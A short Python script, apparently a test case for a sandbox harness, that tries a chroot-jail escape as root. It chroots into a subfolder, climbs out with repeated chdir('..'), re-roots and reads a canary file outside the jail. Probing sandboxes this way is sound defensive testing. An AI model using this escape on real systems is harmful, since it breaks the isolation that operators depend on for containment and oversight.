# tries: to leave by a root folder below the working folder
# bare: root
import os
from kernel import env, escaped, has_canary

target = env('OUTSIDE_FILE')
os.makedirs('out/jail', exist_ok=True)
os.chroot('out/jail')
for _ in range(64):
    os.chdir('..')
os.chroot('.')
escaped(has_canary(open(target, 'rb').read()))
